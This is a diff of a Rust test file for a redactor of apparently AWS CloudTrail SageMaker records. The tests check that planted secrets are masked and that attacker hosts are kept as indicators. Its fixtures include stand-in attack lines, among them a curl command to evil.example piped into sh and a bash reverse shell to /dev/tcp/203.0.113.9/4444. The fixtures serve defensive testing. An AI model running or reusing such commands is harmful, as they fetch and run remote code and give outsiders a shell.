@@ -1,6 +1,9 @@
 //! Redaction, proven: secrets of every kind are planted in every place of example records, intact and damaged, and none
 //! is in the document that comes out. With a folder of real records, every redaction made in them is printed.
 
+mod forms;
+mod harmless;
+mod places;
 mod planting;
 
 use std::collections::BTreeMap;
@@ -154,10 +157,7 @@ fn one_secret_has_one_marker_in_every_place_of_a_record() {
     ] {
         assert!(text.as_str().unwrap().contains(&marker), "{text}");
     }
-    assert_eq!(
-        parameters["onStart"][0]["content"],
-        KNOWLEDGE.fingerprint_key.marker(&STANDARD.encode(&script))
-    );
+    assert_eq!(parameters["onStart"][0]["content"], STANDARD.encode(script.replace(secret, &marker)));
 }
 
 #[test]
@@ -172,18 +172,213 @@ fn a_script_is_shown_with_its_indicators_and_without_its_secrets() {
     let document = document_of(&record.to_string(), &KNOWLEDGE);
     let source: Value = serde_json::from_slice(&document.source).unwrap();
     let marker = |secret| KNOWLEDGE.fingerprint_key.marker(secret);
+    let redacted =
+        format!("curl -u me:{} https://evil.example/x?token={} | sh\n", marker("hunter2"), marker("abc"));
+    let script_redacted = script.replace(&inner, &STANDARD.encode(&redacted));
+    let original: Value = serde_json::from_str(source["event"]["original"].as_str().unwrap()).unwrap();
+    assert_eq!(original["requestParameters"]["onStart"][0]["content"], STANDARD.encode(&script_redacted));
     assert_eq!(
         source["sagemaker"]["lifecycle"],
         json!({
             "hook": ["onStart"],
             "script": [
-                script.replace(&inner, &marker(&inner)),
-                format!("curl -u me:{} https://evil.example/x?token={} | sh\n", marker("hunter2"), marker("abc")),
+                script_redacted,
+                redacted,
             ],
             "indicators": ["https://evil.example/x", "203.0.113.9", "evil.example"],
         })
     );
     assert_eq!(source["related"], json!({"ip": ["198.51.100.7", "203.0.113.9"], "hosts": ["evil.example"]}));
+}
+
+/// Every text in a document, and what is packed inside of it.
+fn unfolded(text: &str, depth: usize, all: &mut String) {
+    all.push_str(text);
+    all.push('\n');
+    let is_symbol = |symbol: char| symbol.is_ascii_alphanumeric() || matches!(symbol, '+' | '/' | '=');
+    for run in text.split(|symbol| !is_symbol(symbol)).filter(|run| depth > 0 && run.len() >= 16) {
+        let Ok(bytes) = STANDARD.decode(run) else { continue };
+        let mut plain = Vec::new();
+        if bytes.starts_with(&[0x1f, 0x8b]) {
+            flate2::read::GzDecoder::new(bytes.as_slice()).read_to_end(&mut plain).unwrap();
+        } else {
+            plain = bytes;
+        }
+        unfolded(&String::from_utf8_lossy(&plain), depth - 1, all);
+    }
+}
+
+#[test]
+fn of_all_forms_of_secrets_in_all_places_at_most_one_in_fifty_is_left() {
+    let mut runner = proptest::test_runner::TestRunner::deterministic();
+    let mut left: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
+    let mut tried = 0;
+    for form in forms::forms(&mut runner) {
+        for place in &places::PLACES {
+            let document = document_of(&(place.record)(&form.text).to_string(), &KNOWLEDGE);
+            let source: Value = serde_json::from_slice(&document.source).unwrap();
+            let mut all = String::new();
+            unfolded(std::str::from_utf8(&document.source).unwrap(), 0, &mut all);
+            unfolded(source["event"]["original"].as_str().unwrap(), 3, &mut all);
+            tried += 1;
+            let quoted = json!(form.secret).to_string();
+            if [form.secret.as_str(), quoted.trim_matches('"')].iter().any(|secret| all.contains(secret)) {
+                left.entry(form.form).or_default().push(place.name);
+            }
+        }
+    }
+    let leaks: usize = left.values().map(Vec::len).sum();
+    println!("{} of {tried} forms and places are redacted; left are {left:#?}", tried - leaks);
+    assert!(leaks * 50 <= tried, "{leaks} of {tried} are left: {left:#?}");
+}
+
+#[test]
+fn harmless_texts_stay_in_every_place() {
+    for text in harmless::TEXTS {
+        for place in &places::PLACES {
+            let record = (place.record)(text);
+            let document = document_of(&record.to_string(), &KNOWLEDGE);
+            let source: Value = serde_json::from_slice(&document.source).unwrap();
+            let original = source["event"]["original"].as_str().unwrap();
+            assert!(!original.contains("[redacted:"), "{text} as {}: {original}", place.name);
+            assert_eq!(serde_json::from_str::<Value>(original).unwrap(), record);
+        }
+    }
+    for (holder, name, value) in harmless::VARIABLES {
+        let variables =
+            if holder == "tags" { json!([{"key": name, "value": value}]) } else { json!({ name: value }) };
+        let record = json!({"eventName": "x", "requestParameters": { holder: variables }});
+        let raw = record.to_string();
+        let redacted =
+            redact(raw.as_bytes(), &Record::parse(raw.as_bytes()).unwrap(), &KNOWLEDGE.fingerprint_key);
+        assert_eq!(redacted, None, "{record}");
+    }
+}
+
+#[test]
+fn who_what_and_where_stay_whatever_they_look_like() {
+    for name in [
+        "ghp_0123456789abcdefghijABCDEFGHIJ012345",
+        "sk-proj-0123456789abcdefghijABCDEFGHIJ",
+        "AKIAIOSFODNN7EXAMPLE",
+        "hf_abcdefghijABCDEFGHIJabcdefghijABCD",
+    ] {
+        let role = format!("arn:aws:sts::111122223333:assumed-role/{name}/{name}");
+        let arn = format!("arn:aws:sagemaker:eu-west-1:111122223333:training-job/{name}");
+        let record = json!({
+            "eventSource": "sagemaker.amazonaws.com", "eventName": "CreateTrainingJob", "awsRegion": "eu-west-1", "sourceIPAddress": "198.51.100.7",
+            "errorMessage": format!("User: {role} is not authorized to perform: sagemaker:CreateTrainingJob on resource: {arn}"),
+            "userIdentity": {
+                "type": "AssumedRole", "principalId": format!("AROA:{name}"), "arn": role, "accountId": "111122223333",
+                "sessionContext": {"sessionIssuer": {"userName": name, "arn": role, "principalId": name}, "sourceIdentity": name},
+            },
+            "requestParameters": {
+                "trainingJobName": name, "endpointName": name, "roleArn": role, "newThingThatNobodyKnowsName": name, "secretId": name,
+                "algorithmSpecification": {"trainingImage": format!("111122223333.dkr.ecr.eu-west-1.amazonaws.com/{name}:1"), "containerArguments": ["run", role, format!("https://{name}.evil.example/x")]},
+                "outputDataConfig": {"s3OutputPath": format!("s3://{name}/x"), "modelUri": format!("s3://{name}/{name}")},
+                "tags": [{"key": name, "value": "x"}], "bucketName": name, "key": format!("{name}/x"),
+                "environment": {"API_TOKEN": "http://evil.example/x", "DB_PASSWORD": "203.0.113.9:443", "CALLBACK_SECRET": format!("https://{name}.evil.example/y")},
+            },
+            "responseElements": {"trainingJobArn": arn},
+            "resources": [{"ARN": arn, "accountId": "111122223333", "type": "AWS::SageMaker::TrainingJob"}],
+        });
+        let document = document_of(&record.to_string(), &KNOWLEDGE);
+        let source: Value = serde_json::from_slice(&document.source).unwrap();
+        let original: Value = serde_json::from_str(source["event"]["original"].as_str().unwrap()).unwrap();
+        for path in [
+            "/userIdentity",
+            "/errorMessage",
+            "/resources",
+            "/responseElements",
+            "/sourceIPAddress",
+            "/requestParameters/trainingJobName",
+            "/requestParameters/endpointName",
+            "/requestParameters/roleArn",
+            "/requestParameters/newThingThatNobodyKnowsName",
+            "/requestParameters/secretId",
+            "/requestParameters/algorithmSpecification/trainingImage",
+            "/requestParameters/outputDataConfig/modelUri",
+            "/requestParameters/outputDataConfig/s3OutputPath",
+            "/requestParameters/tags",
+            "/requestParameters/bucketName",
+            "/requestParameters/key",
+        ] {
+            assert_eq!(original.pointer(path), record.pointer(path), "{path}");
+        }
+        for text in ["sagemaker", "user", "message", "cloud", "related", "source"] {
+            let shown = source[text].to_string();
+            let script = source["sagemaker"]["lifecycle"].to_string();
+            assert!(text == "sagemaker" || !shown.contains("[redacted"), "{text}: {shown}");
+            assert!(!shown.replace(&script, "").contains("[redacted"), "{text}: {shown}");
+        }
+        assert!(source["message"].as_str().unwrap().contains(name), "{}", source["message"]);
+        let environment = original["requestParameters"]["environment"].to_string();
+        for host in ["http://evil.example/", "203.0.113.9", &format!("https://{name}.evil.example/")] {
+            assert!(environment.contains(host), "{host} in {environment}");
+        }
+    }
+}
+
+#[test]
+fn a_host_under_the_name_of_a_secret_is_an_indicator_and_the_rest_is_gone() {
+    for (line, host, secret) in [
+        ("export API_TOKEN=http://evil.example/hunter2; curl $API_TOKEN", "evil.example", "hunter2"),
+        ("PASSWORD='https://u:hunter2@evil.example:8443/y'", "evil.example", "hunter2"),
+        ("run --token http://203.0.113.9/hunter2x", "203.0.113.9", "hunter2x"),
+        ("SECRET=/dev/tcp/203.0.113.9/4444; bash -i >& $SECRET", "203.0.113.9", "nothing"),
+        (
+            "curl -u me:hunter2 https://ghp_0123456789abcdefghijABCDEFGHIJ012345.evil.example/",
+            "ghp_0123456789abcdefghijabcdefghij012345.evil.example",
+            "hunter2",
+        ),
+    ] {
+        let record = json!({
+            "eventSource": "sagemaker.amazonaws.com", "eventName": "CreateNotebookInstanceLifecycleConfig",
+            "requestParameters": {"onStart": [{"content": STANDARD.encode(line)}]},
+        });
+        let document = document_of(&record.to_string(), &KNOWLEDGE);
+        let source: Value = serde_json::from_slice(&document.source).unwrap();
+        let indicators = source["sagemaker"]["lifecycle"]["indicators"].to_string();
+        assert!(indicators.contains(host), "{line}: {source}");
+        let mut all = source.to_string();
+        unfolded(source["event"]["original"].as_str().unwrap(), 2, &mut all);
+        assert!(!all.contains(secret), "{line}: {all}");
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]
+
+    #[test]
+    fn secrets_that_overlap_nest_or_end_inside_one_another_are_all_replaced(
+        parts in prop::collection::vec(select(vec![
+            "echo", "a", "ghp_0123456789abcdefghijABCDEFGHIJ012345", "|", "docker", "login", "--password-stdin", "--password", "--token=", "r", "é", "\"", "'", "\\",
+            "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----", "PASSWORD=", "https://u:p@h.example/", "https://", "@", "arn:aws:iam::111122223333:role/x",
+            "sk-proj-0123456789abcdefghijABCDEFGHIJ", "curl", "-u", "me:hunter2", "%22", "&quot;", "{\"password\":\"", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3",
+            "/dev/tcp/1.2.3.4/5", "Authorization: Bearer ", "x=\"", "\n", "ZXhwb3J0IFRPS0VOPWFiY2RlZmdoMTIzCg==",
+        ]), 0..24),
+        glue in select(vec!["", " ", "\n"]),
+    ) {
+        let line = parts.join(glue);
+        let record = json!({
+            "eventSource": "sagemaker.amazonaws.com", "eventName": "CreateTrainingJob", "errorMessage": line,
+            "requestParameters": {"containerArguments": parts, "containerEntrypoint": [line], "environment": {"X": line, "PASSWORD": line},
+                "description": line, "modelUri": line, "authorizedUrl": line, "onStart": [{"content": STANDARD.encode(&line)}], "content": line},
+        });
+        let raw = record.to_string();
+        let document = document_of(&raw, &KNOWLEDGE);
+        let source = std::str::from_utf8(&document.source).unwrap();
+        serde_json::from_str::<Value>(source).unwrap();
+        document_of(&raw[..raw.len() - 1], &KNOWLEDGE);
+        if glue != "" && parts.contains(&"ghp_0123456789abcdefghijABCDEFGHIJ012345") {
+            let parsed: Value = serde_json::from_str(source).unwrap();
+            let original: Value = serde_json::from_str(parsed["event"]["original"].as_str().unwrap()).unwrap();
+            for place in ["containerArguments", "containerEntrypoint"] {
+                let words = original["requestParameters"][place].to_string();
+                prop_assert!(!words.contains("ghp_0123456789"), "{words}");
+            }
+        }
+    }
 }
 
 #[test]
@@ -196,7 +391,7 @@ fn what_is_redacted_in_real_records_is_printed() {
         return;
     };
     let mut redactions: BTreeMap<String, usize> = BTreeMap::new();
-    let (mut records, mut without_hints) = (0, 0);
+    let (mut records, mut without_hints, mut texts) = (0, 0, 0);
     for path in entries
         .map(|entry| entry.unwrap().path())
         .filter(|path| path.extension().is_some_and(|end| end == "gz"))
@@ -213,6 +408,7 @@ fn what_is_redacted_in_real_records_is_printed() {
                 serde_json::from_str(source["event"]["original"].as_str().unwrap()).unwrap();
             list_redactions(record, &original, "", &mut redactions);
             records += 1;
+            texts += count_texts(record);
             let raw = record.to_string();
             let parsed = Record::parse(raw.as_bytes()).unwrap();
             let spent = allocation_counter::measure(|| {
@@ -221,13 +417,27 @@ fn what_is_redacted_in_real_records_is_printed() {
             without_hints += usize::from(spent.count_total == 0);
         }
     }
-    println!("{records} records, {without_hints} without a hint");
+    println!("{records} records with {texts} texts, {without_hints} without a hint");
+    // Session tokens and streams' links are secrets; nothing else in those records is one.
+    let is_secret =
+        |path: &str| path.contains(".sessionToken") || path.to_ascii_lowercase().contains("streamurl");
+    let wrong: usize =
+        redactions.iter().filter(|(redaction, _)| !is_secret(redaction)).map(|(_, times)| times).sum();
+    assert!(wrong * 10_000 <= texts, "{wrong} of {texts} harmless texts are redacted: {redactions:#?}");
     for (redaction, times) in &redactions {
         assert!(
             !redaction.contains("HIDDEN_DUE_TO_SECURITY_REASONS ->") && !redaction.contains("* ->"),
             "{redaction}"
         );
         println!("{times} × {redaction}");
+    }
+}
+
+fn count_texts(value: &Value) -> usize {
+    match value {
+        Value::Array(elements) => elements.iter().map(count_texts).sum(),
+        Value::Object(members) => members.values().map(count_texts).sum(),
+        value => usize::from(value.is_string()),
     }
 }
 
